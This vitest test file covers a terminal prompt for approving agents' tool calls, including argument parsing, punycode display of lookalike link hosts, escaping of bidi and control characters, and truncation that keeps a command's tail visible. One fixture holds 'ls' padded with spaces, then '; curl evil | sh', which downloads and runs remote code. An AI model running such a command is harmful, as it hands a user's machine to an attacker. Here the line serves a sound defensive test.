/**
 * @module test/askers/question-view.test
 * The pure text of a terminal question: countdown format, argument parsing
 * (only a JSON object is accepted), truncation and details.
 */
import { describe, expect, it } from "vitest";
import { toolCall } from "../../src/contracts/elicitation.js";
import { blankValues, emptyRequired, formContent, formFields, formValues, formValuesError } from "../../src/agents/form-fields.js";
import {
  FORM_SUBJECT,
  LINK_SUBJECT,
  MAX_ARGUMENT_LINES,
  linkHost,
  parseArguments,
  questionLines,
  timeLeft,
  toolArguments,
  toolName,
  visibleJson,
} from "../../src/askers/question-view.js";
import { fitScreen } from "../../src/askers/screen-fit.js";

/** A question whose tool call has `n` arguments. */
function questionWith(n: number) {
  const args = Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, i]));
  return { question: "Allow big?", toolCall: toolCall("c9", "big", args), source: "react", timeoutMs: 60_000 };
}

describe("timeLeft", () => {
  it("rounds up to whole seconds and never goes below zero", () => {
    expect(timeLeft(29_001)).toBe("0:30");
    expect(timeLeft(65_000)).toBe("1:05");
    expect(timeLeft(3_600_000 + 61_000)).toBe("1:01:01");
    expect(timeLeft(-5)).toBe("0:00");
  });
});

describe("parseArguments", () => {
  it("accepts a JSON object", () => {
    expect(parseArguments(' {"a": [1]} ')).toEqual({ ok: true, value: { a: [1] } });
  });
  it.each([
    ["[1]", /not a JSON object: got an array/],
    ["null", /not a JSON object: got null/],
    ['"s"', /not a JSON object: got a string/],
    ["3", /not a JSON object: got a number/],
    ['{"a": ', /not valid JSON: .+must be a JSON object/],
  ])("refuses %s naming why", (text, why) => {
    const parsed = parseArguments(text);
    expect(parsed.ok).toBe(false);
    expect(parsed.ok ? "" : parsed.error).toMatch(why);
  });
});

describe("questionLines", () => {
  it("cuts long arguments in the main view and shows them whole with the details", () => {
    const q = questionWith(40);
    const short = questionLines(q, { now: 0, deadlineAt: 60_000, queued: 2, details: false });
    expect(short[0]).toBe("Approve tool call: big  (2 more queued)");
    expect(short[1]).toBe("  from react · time left 1:00");
    expect(short.filter((l) => /"k\d+"/.test(l))).toHaveLength(MAX_ARGUMENT_LINES - 1);
    expect(short.at(-1)).toMatch(/… 22 more lines \(d: details\)/);
    const long = questionLines(q, { now: 0, deadlineAt: 60_000, queued: 0, details: true });
    expect(long.filter((l) => /"k\d+"/.test(l))).toHaveLength(40);
    expect(long).toContain("    question: Allow big?");
    expect(long).toContain("    call id: c9");
  });
  it("says when there is no deadline and no source", () => {
    const lines = questionLines({ question: "q?" }, { now: 0, queued: 0, details: false });
    expect(lines.slice(0, 2)).toEqual(["Answer a question", "  from an unnamed source · no deadline"]);
  });
});

describe("the subject and arguments an elicitation is stored and shown under", () => {
  const schema = { type: "object", properties: { name: { type: "string" }, seats: { type: "integer", default: 5 } }, required: ["name"] };
  it("a form: its fields with the values shown (defaults, null = empty); a link: its URL", () => {
    const form = { question: "Who?", form: { schema } };
    expect(toolName(form)).toBe(FORM_SUBJECT);
    expect(toolArguments(form)).toEqual({ name: null, seats: 5 });
    const link = { question: "Sign in", url: "https://a.example/x" };
    expect(toolName(link)).toBe(LINK_SUBJECT);
    expect(toolArguments(link)).toEqual({ url: "https://a.example/x" });
  });
  it("a form's lines name every field with its value and its message; no '(no tool)'", () => {
    const lines = questionLines({ question: "Who\u202e?", form: { schema } }, { now: 0, queued: 0, details: false });
    expect(lines.join("\n")).not.toContain("(no tool)");
    expect(lines).toContain("    Who\\u202e?");
    expect(lines).toContain("    name (string, required): (empty, not sent)");
    expect(lines).toContain("    seats (integer): 5");
  });
  it("a link's host is called out in ASCII, with the scheme when it is not https", () => {
    expect(linkHost("https://xn--80ak6aa92e.com/login")).toBe("xn--80ak6aa92e.com");
    expect(linkHost("https://аpple.com/")).toBe("xn--pple-43d.com");
    expect(linkHost("http://a.example/")).toBe("a.example (http: link, not https)");
    expect(linkHost("not a url")).toBe("(not a valid URL)");
  });
});

describe("form values: what is shown is what is sent", () => {
  const schema = {
    properties: { a: { type: "string", default: "x", enum: ["x", "y"] }, b: { type: "number" }, c: { type: "boolean" } },
    required: ["b"],
  };
  it("fields, start values, blanks and the content sent (empty fields left out, nothing added)", () => {
    expect(formFields(schema).map((f) => [f.name, f.type, f.required, f.options])).toEqual([
      ["a", "string", false, ["x", "y"]],
      ["b", "number", true, undefined],
      ["c", "boolean", false, undefined],
    ]);
    expect(formValues(schema)).toEqual({ a: "x", b: null, c: null });
    expect(blankValues(schema)).toEqual({ a: null, b: null, c: null });
    expect(formContent({ a: "x", b: null, c: false })).toEqual({ a: "x", c: false });
    expect(emptyRequired(schema, { a: "x", b: null })).toEqual(["b"]);
  });
  it("edited values naming another field or holding an object are refused, naming what is accepted", () => {
    expect(formValuesError(schema, { a: "y", z: 1 })).toBe('not a field of this form: ["z"]. The form\'s fields: ["a","b","c"]');
    expect(formValuesError(schema, { b: { n: 1 } })).toMatch(/field "b" must be a string, number, boolean, list of strings or null/);
    expect(formValuesError(schema, { a: "y", b: 2, c: null })).toBeUndefined();
  });
});

describe("visibleJson", () => {
  it("escapes C1, bidi and format characters as \\uXXXX and parses back to the same value", () => {
    const value = { p: "a\u202eb\u009b\u200b\u2028", t: "x\u{e0041}", e: "\u001b[2J" };
    const text = visibleJson(value);
    expect(text).toContain('"a\\u202eb\\u009b\\u200b\\u2028"');
    expect(text).toContain('"x\\udb40\\udc41"');
    expect(text).toContain('"\\u001b[2J"');
    expect(JSON.parse(text)).toEqual(value);
  });
});

describe("fitScreen", () => {
  const header = ["? Approve tool call: t", "  from x · time left 0:10"];
  const footer = ["❯ [a] approve", "  [r] reject"];
  it("keeps the header and the footer and cuts a long body line head…tail to the width", () => {
    const body = [`    "cmd": "ls${" ".repeat(500)}; curl evil | sh"`];
    const { lines } = fitScreen({ header, body, footer }, { columns: 60, rows: 24, whole: false, scroll: 0 });
    expect(lines.slice(0, 2)).toEqual(header);
    expect(lines.slice(-2)).toEqual(footer);
    expect(lines[2]).toMatch(/^ {4}"cmd": "ls +…\d+ cut… +; curl evil \| sh"$/);
    expect(lines.every((l) => l.length <= 59)).toBe(true);
    expect(lines[3]).toMatch(/d shows every line whole/);
  });
  it("a body taller than the terminal scrolls in a window that says which lines are shown", () => {
    const body = Array.from({ length: 100 }, (_, i) => `line ${i}`);
    const first = fitScreen({ header, body, footer }, { columns: 80, rows: 20, whole: true, scroll: 0 });
    expect(first.lines).toHaveLength(19);
    expect(first.lines.slice(0, 2)).toEqual(header);
    expect(first.lines.slice(-2)).toEqual(footer);
    expect(first.lines.at(-3)).toMatch(/lines 1–14 of 100/);
    const last = fitScreen({ header, body, footer }, { columns: 80, rows: 20, whole: true, scroll: 1000 });
    expect(last.maxScroll).toBe(86);
    expect(last.lines.at(-4)).toBe("line 99");
  });
  it("with whole, a long line is wrapped and nothing is left out", () => {
    const { lines } = fitScreen({ header, body: ["x".repeat(250)], footer }, { columns: 101, rows: 40, whole: true, scroll: 0 });
    expect(lines.slice(2, 5).join("")).toBe("x".repeat(250));
  });
});
